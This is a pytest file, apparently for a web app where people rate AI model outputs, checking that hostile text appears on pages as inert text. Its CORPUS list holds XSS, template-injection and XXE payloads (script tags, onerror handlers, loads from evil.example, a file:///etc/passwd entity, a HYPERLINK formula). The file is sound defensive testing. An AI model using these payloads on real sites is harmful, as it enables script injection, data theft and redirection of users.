"""Model output is hostile, and so is all else that people type: nothing of it becomes a page.

Two worlds are walked page by page: one whose outputs, prompts, titles, texts, labels and comments
are a corpus of attacks, one in which they are plain words. Both must hold exactly the same elements
with exactly the same attributes. A browser then opens the first, and nothing may happen.
"""

from __future__ import annotations

import json
import re
from collections import Counter
from contextlib import closing
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from app import (
    Clock,
    app_of,
    client,
    consent,
    form,
    join,
    make_site,
    make_study,
    new_link,
    next_form,
    owner,
    rate_one,
    served,
)

from mores.errors import DataError
from mores.rate.web.call import Site
from mores.study import folders
from mores.web.i18n import visible

CORPUS: tuple[str, ...] = (
    # Scripts and handlers
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.gif">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<object data=https://evil.example/x.swf></object><embed src=https://evil.example/x>",
    "<x contenteditable onblur=alert(1)>lose focus</x>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # The page's own frame
    "<base href=https://evil.example/>",
    '<base target="_blank">',
    "<style>*{display:none}</style>",
    "<style>@import 'https://evil.example/x.css'</style>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<link rel="dns-prefetch" href="//evil.example">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "<title>Nothing to rate</title>",
    "</title></head><body>",
    "</textarea><script>alert(1)</script>",
    "</details></section></main></body></html>",
    "</div></div></div><div class=answer>",
    "</select></option><option selected value=5>",
    "</script><script>alert(1)</script>",
    # Forms
    '<form action="https://evil.example/"><button>Save and next</button>',
    '</form><form method=post action=/stop><button id="main">',
    "<button form=rate name=answer value=5>",
    "<input name=answer value=5 type=hidden><input name=csrf value=x>",
    # Out of an attribute
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><img src=x onerror=alert(1)>',
    "` onmouseover=`alert(1)",
    '" autofocus onfocus=alert(1) x="',
    'x" style="position:fixed;inset:0;background:url(https://evil.example/x)',
    # Addresses
    "javascript:alert(1)",
    "[click](javascript:alert(1)) ![x](https://evil.example/x.png) <javascript:alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "data:text/html,<script>alert(1)</script>",
    "https://evil.example/ http://evil.example //evil.example",
    # Templates and formats
    "{{ 7*7 }} {% for x in range(9) %}x{% endfor %} {# gone #} ${7*7} #{7*7} <%= 7*7 %>",
    "{{ config }} {{ self.__init__.__globals__ }} {{ ''.__class__.__mro__ }}",
    "%(answer)s %s %d {answer} {0} {n} %",
    '=HYPERLINK("https://evil.example","x")',
    # Comments, sections, entities
    "<!-- --><script>alert(1)</script><!--",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img&#62; &amp;lt; &quot;&#0;&#x1F600;&nbsp",
    # Characters
    "\u202ereversed \u2066isolated \u2068first\u202c \u200fmark\u2069 \u061c\u202b",
    "\u202e" * 500 + "never closed",
    "zero\u200bwidth\u200d\ufeff\u2060joined\u00ad",
    "Z\u0335\u0321\u0327" + "\u0300\u0301\u0302\u0303" * 200 + "algo",
    "\x00\x01\x02\x07\x08\x0b\x0c\x1b[31mred\x1b[0m\x7f\x80\x85\x9b",
    "a\x00<script\x00>alert(1)</script\x00>",
    "<\x00img src=x onerror=alert(1)>",
    "line\rline\r\nline\u2028line\u2029line\x85line",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e \u02bbimg\u02bc",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ufffe\uffff\U0010ffff \U0001f600\U0001f468\u200d\U0001f469\u200d\U0001f467",
    # Sizes
    "a" * 1_000_000,
    "<b>" * 2_000,
    "\n" * 500 + "far down" + " " * 5_000 + "far right",
    "< < <a <1 <! </ <> &",
)
SHORT = tuple(text for text in CORPUS if len(text) < 1_000)


def pick(n: int) -> str:
    return SHORT[n % len(SHORT)]


def rating_toml(hostile: bool) -> str:
    """All of the study's own texts."""
    numbers = iter(range(1000))

    def said() -> str:
        n = next(numbers)
        text = pick(7 * n) + pick(7 * n + 1) if hostile else f"plain words {n}"
        return json.dumps(text).replace("\x7f", "\\u007f")

    def option() -> str:  # a form's value: no control characters, see the test of texts
        return re.sub(
            r"\\u00[01][0-9a-f]|\\[rnbft]|[\x7f-\x9f]|\\u007f|\\u008.|\\u009.", "", said()
        )

    support = "\n".join(
        f"[[support]]\nname = {said()}\nwhere = {where}"
        for where in (
            (
                json.dumps('javascript:alert(1)//"><img src=x onerror=alert(1)>'),
                '"https://x.example/?a=\\"><b>"',
            )
            if hostile
            else ('"by telephone"', '"https://help.example/"')
        )
    )
    return f"""
version = "1"
title = {said()}
task = {said()}
consent = {said()}
contact = {said()}
debrief = {said()}
completion_code = {said()}
completion_url = "https://panel.example/done?code=A"
practice_pass = 0.0
[anchors]
1 = {said()}
3 = {said()}
5 = {said()}
[notices]
topic-1 = {said()}
topic-2 = {said()}
{support}
[[practice]]
id = "try"
category = "topic-1"
prompt = {said()}
output = {said()}
low = 4
high = 5
feedback = {said()}
[[gold]]
id = "gold"
category = "topic-2"
prompt = {said()}
output = {said()}
low = 4
high = 5
[[groups]]
id = "age"
question = {said()}
options = [{option()}, {option()}, {option()}]
"""


def world(folder: Path, hostile: bool) -> Site:
    size = len(CORPUS)
    study = make_study(
        folder,
        prompts=-(-size // 3),
        outputs=CORPUS if hostile else [f"plain {n}" for n in range(size)],
        texts=SHORT if hostile else [f"What is {n}?" for n in range(size)],
        titles=[pick(4), pick(39)] if hostile else ["One", "Two"],
        rating_toml=rating_toml(hostile),
        per_item=1,
        seats=1,
        daily_cap=10_000,
        break_items=10_000,
        min_cell=2,
    )
    return make_site(study, now=Clock())


# Parsing -----------------------------------------------------------------------------------

Shape = list[tuple[str, tuple[str, ...]]]


class Page(HTMLParser):
    """Elements with their attributes' names, addresses, and the texts of outputs."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.shape: Shape = []
        self.addresses: list[str] = []
        self.texts: list[str] = []
        self.other: list[str] = []
        self.inside = 0
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.shape.append((tag, tuple(name for name, _ in attrs)))
        given = dict(attrs)
        where = ("href", "src", "action", "formaction", "srcset", "data", "poster", "style")
        self.addresses += [given[name] or "" for name in where if name in given]
        if tag == "div":
            if "text" in (given.get("class") or "").split():
                self.inside, _ = 1, self.texts.append("")
            elif self.inside:
                self.inside += 1

    def handle_endtag(self, tag: str) -> None:
        self.shape.append((f"/{tag}", ()))
        if tag == "div" and self.inside:
            self.inside -= 1

    def handle_data(self, data: str) -> None:
        if self.inside:
            self.texts[-1] += data

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    def handle_pi(self, data: str) -> None:
        self.other.append(data)

    def unknown_decl(self, data: str) -> None:
        self.other.append(data)


Pages = list[tuple[str, str]]


def walk(site: Site, hostile: bool) -> Pages:
    """Every page that shows a text of anybody, in an order that does not depend on the texts."""
    app = app_of(site)
    pages: Pages = []

    def keep(name: str, answer: Any, status: int = 200) -> Any:
        assert answer.status_code == status, (name, answer.text[-500:])
        pages.append((name, answer.text))
        return answer

    def said(n: int, plain: str, most: int = 1500) -> str:
        return pick(n)[:most] if hostile else plain

    link = new_link(site, label=said(3, "Ada"))
    query = {"PROLIFIC_PID": said(40, "a"), "SESSION_ID": said(38, "b"), "lang": said(40, "xx")}
    keep("invitation", client(site, app).get(f"/r/{link}", params=query))
    keep("no link", client(site, app).get("/r/" + said(1, "none").replace("/", "")), 404)
    me = join(site, link, app=app)
    keep("consent", me.get("/begin"))
    keep("no such topic", me.submit("/begin", decision="agree", opt_out=said(40, "x")), 400)
    keep("no such option", me.submit("/begin", decision="agree", group_age=said(41, "x")), 400)
    consent(me)
    keep("practice", (next_form(me), me.get("/rate"))[1])
    done = [rate_one(me, remark=said(29, "fine"))]
    keep("feedback", me.get(f"/feedback/{done[0]}"))
    while shown := next_form(me):
        n = len(done)
        keep(f"item {n}", me.get("/rate"))
        remark = said(n, "fine")
        sent = {**shown, "answer": "2", "remark": remark}
        assert me.submit("/rate", sent).status_code == 303
        keep(f"answer {n}", me.get(f"/answer/{shown['item']}"))
        done.append(shown["item"])
    assert len(done) == 1 + len(CORPUS) + 1 + (-len(CORPUS)) % 3
    stale = form(me.get(f"/answer/{done[-1]}").text) | {"revision": "0"}
    keep("conflict", me.submit("/rate", {**stale, "answer": "4", "remark": said(29, "x")}), 409)
    keep("guess", me.get("/guess"))
    me.submit("/guess", {"cues": said(30, "style")})
    keep("done", me.get("/done"))
    keep("stopped", me.get("/stopped"))

    boss = owner(site, app=app)
    labels = SHORT if hostile else [f"label {n}" for n in range(len(SHORT))]
    for label in labels:
        new_link(site, label=label[:80])
    keep("made", boss.submit("/owner/invite", kind="open", count="3", days="3", label=labels[0]))
    keep(
        "bad number", boss.submit("/owner/invite", kind="open", count=said(40, "x"), days="1"), 400
    )
    keep("no rater", boss.submit("/owner/release", rater=said(40, "x")), 400)
    for path in ("", "/raters", "/export", "/unblind"):
        keep(f"owner{path}", boss.get(f"/owner{path}"))
    keep("wrong word", boss.submit("/owner/unblind", who="x", word=said(40, "x")), 400)
    assert boss.submit("/owner/unblind", who=said(4, "Olga", 120), word="trial").status_code == 303
    for number in range(1, 5):
        filters = {"page": str(number), "sort": said(40, "x"), "arm": ""}
        keep(f"compare {number}", boss.get("/owner/compare", params=filters))
    for name in ("category", "arm"):
        keep(f"compare {name}", boss.get("/owner/compare", params={name: said(40, "x")}))
    for path in ("", "/audit", "/unblind"):
        keep(f"owner{path} after", boss.get(f"/owner{path}"))
    return pages


@pytest.fixture(scope="module")
def both(tmp_path_factory: pytest.TempPathFactory) -> tuple[Pages, Pages]:
    """The pages of the hostile and of the plain world."""
    walks = []
    for hostile in (True, False):
        site = world(tmp_path_factory.mktemp("world"), hostile)
        walks.append(walk(site, hostile))
        site.database.close()
    return walks[0], walks[1]


def test_the_corpus_is_large_and_dangerous() -> None:
    assert len(set(CORPUS)) == len(CORPUS) >= 40
    # Put into a page as they are, most of them do add something: the parser can see it.
    plain = Page("<main></main>").shape
    changed = [text for text in CORPUS if Page(f"<main>{text}</main>").shape != plain]
    assert len(changed) >= 40
    broken = [t for t in SHORT if Page(f'<p title="{t}">').shape != [("p", ("title",))]]
    assert len(broken) >= 15


def test_no_element_and_no_attribute_comes_out_of_a_text(both: tuple[Pages, Pages]) -> None:
    hostile, plain = both
    assert [name for name, _ in hostile] == [name for name, _ in plain]
    for (name, ours), (_, theirs) in zip(hostile, plain, strict=True):
        mine, other = Page(ours), Page(theirs)
        assert mine.shape == other.shape, name
        assert mine.other == other.other == [], name


def test_addresses_in_pages_are_ours_or_the_studys(both: tuple[Pages, Pages]) -> None:
    for name, html in both[0]:
        for address in Page(html).addresses:
            helps = address in ('https://x.example/?a="><b>', "https://panel.example/done?code=A")
            assert helps or re.match(r"/(?![/\\])|#|\?", address), (name, address)


def test_every_text_is_shown_whole(both: tuple[Pages, Pages]) -> None:
    # What is inert must still be readable: nothing cut, nothing doubly escaped.
    items = [Page(html).texts for name, html in both[0] if name.startswith("item ")]
    shown = Counter(texts[-1] for texts in items)
    expected = {visible(text.strip()) for text in CORPUS}
    assert expected <= set(shown)
    asked = {texts[-2] for texts in items}
    assert {visible(text) for text in SHORT[: -(-len(CORPUS) // 3)]} <= asked
    compared = {
        t for name, html in both[0] if name.startswith("compare ") for t in Page(html).texts
    }
    assert expected <= compared
    for _, html in both[0]:
        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", html)


def test_templates_in_texts_are_not_run(both: tuple[Pages, Pages]) -> None:
    pages = "".join(html for _, html in both[0])
    assert "{{ 7*7 }} {% for x in range(9) %}" in pages
    assert "xxxxxxxxx" not in pages.replace("a" * 1000, "")


def test_a_page_of_a_megabyte_is_the_text_and_little_more(both: tuple[Pages, Pages]) -> None:
    sizes = [(len(html.encode()), name) for name, html in both[0] if name.startswith("item ")]
    largest, _ = max(sizes)
    assert 1_000_000 < largest < 1_030_000


def test_half_of_a_surrogate_pair_is_refused_with_its_line(tmp_path: Path) -> None:
    # JSON can write "\ud800" alone; no database and no page can.
    study = make_study(tmp_path / "study", outputs=["MARK"])
    path = folders.model_folder(study, "smollm2-135m") / "sample" / "completions.jsonl"
    lines = path.read_text("utf-8").split("\n")
    lines[4] = lines[4].replace("MARK", "\\ud83d alone")
    path.write_text("\n".join(lines), encoding="utf-8")
    with pytest.raises(DataError, match="half of a surrogate pair") as error:
        make_site(study, now=Clock())
    assert error.value.line == 5
    assert not (study.run_folder / "rating" / "key.jsonl").exists()


def test_options_of_questions_hold_no_control_characters(tmp_path: Path) -> None:
    for n, odd in enumerate(("a\\nb", "a\\u0000b", "a\\u0085b")):
        toml = f"""version = "1"
[[groups]]
id = "age"
question = "How old?"
options = ["young", "{odd}"]
"""
        with pytest.raises(DataError, match="control character or a line feed"):
            make_site(make_study(tmp_path / str(n), rating_toml=toml), now=Clock())


def test_odd_characters_on_postgresql(tmp_path: Path, postgres_database: str) -> None:
    """NUL is no character of PostgreSQL: its picture is kept, which is what pages show."""
    odd = [text for text in CORPUS if not text.isascii() or not text.isprintable()]
    assert 10 <= len(odd) <= 20
    study = make_study(
        tmp_path / "study",
        prompts=len(odd),
        arms=["base"],
        outputs=odd,
        texts=odd,
        titles=odd[:2],
        rating_toml=rating_toml(True),
        per_item=1,
        seats=1,
    )
    site = make_site(study, postgres_database, now=Clock())
    with closing(site.database):
        me = join(site, new_link(site, label=odd[0]))
        consent(me)
        seen: list[str] = []
        while shown := next_form(me):
            seen += Page(me.get("/rate").text).texts
            sent = {**shown, "answer": "3", "remark": odd[3]}
            assert me.submit("/rate", sent).status_code == 303
    assert {visible(text.strip()) for text in odd} <= set(seen)


# In a browser ------------------------------------------------------------------------------


def watch(page: Any, home: str) -> list[str]:
    """What a page does that no page of ours does."""
    seen: list[str] = []

    def dialog(shown: Any) -> None:
        seen.append(f"dialog {shown.message}")
        shown.dismiss()

    def request(asked: Any) -> None:
        if not asked.url.startswith(home):
            seen.append(f"request {asked.url[:80]}")

    def console(line: Any) -> None:
        if "Content Security Policy" in line.text or "evil.example" in line.text:
            seen.append(f"console {line.text[:80]}")

    page.on("dialog", dialog)
    page.on("request", request)
    page.on("console", console)
    page.on("pageerror", lambda error: seen.append(f"error {error}"))
    page.on("popup", lambda _: seen.append("popup"))
    return seen


def test_nothing_happens_in_a_browser(page: Any, tmp_path: Path) -> None:
    size = len(SHORT)
    study = make_study(
        tmp_path / "study",
        prompts=-(-size // 3),
        outputs=SHORT,
        texts=SHORT,
        titles=[pick(4), pick(39)],
        rating_toml=rating_toml(True),
        per_item=1,
        seats=1,
        daily_cap=10_000,
        break_items=10_000,
    )
    with served(study) as site:
        home = site.place.url
        seen = watch(page, home)
        page.goto(f"{home}/r/{new_link(site, label=pick(40))}")
        page.click("main button")
        page.wait_for_url("**/begin")
        page.click("button[value=agree]")
        page.wait_for_url("**/rate")
        # The script's clicks are slower; the forms are sent as by a browser without it.
        cookie = page.context.cookies()[0]["value"]
        me = client(site)
        me.cookies.set(site.place.cookie, cookie)
        me.csrf = form(page.content(), "/next")["csrf"]
        count = 0
        while shown := next_form(me):
            page.goto(f"{home}/rate", wait_until="load")
            assert page.locator("#rate [name=item]").input_value() == shown["item"]
            assert page.locator("form").count() == 4  # language, stop, rating, keys
            remark = pick(count)
            sent = {**shown, "csrf": me.csrf, "answer": "3", "remark": remark}
            assert me.submit("/rate", sent).status_code == 303
            if count % 12 == 0:
                page.goto(f"{home}/answer/{shown['item']}")
                assert page.locator("textarea").count() == 1
            count += 1
        assert count >= size
        page.goto(f"{home}/guess")
        assert page.locator("fieldset").count() == 6
        boss = owner(site)
        for text in SHORT:
            new_link(site, label=text[:80])
        sent = {"who": pick(4)[:120], "word": "trial"}
        assert boss.submit("/owner/unblind", sent).status_code == 303
        page.context.add_cookies([{"name": site.place.cookie, "value": boss.cookie, "url": home}])
        for path in ("", "/raters", "/audit", "/compare", "/compare?page=2", "/compare?page=3"):
            page.goto(f"{home}/owner{path}")
            assert page.locator("nav.menu").count() == 1
        assert seen == []
        assert page.evaluate("document.scripts.length") == 1

        # The same corpus, put into a page of ours as it is, does act: the watch can see it.
        page.goto("about:blank")
        page.route("**/*evil.example/**", lambda route: route.abort())
        raw = [text for text in SHORT if "refresh" not in text and "\x00" not in text]
        page.set_content("".join(f"<div>{text}</div>" for text in raw[:1] + raw[4:20]))
        page.wait_for_timeout(300)
        assert sum(line.startswith("dialog") for line in seen) >= 3
        assert sum("evil.example" in line for line in seen) >= 1
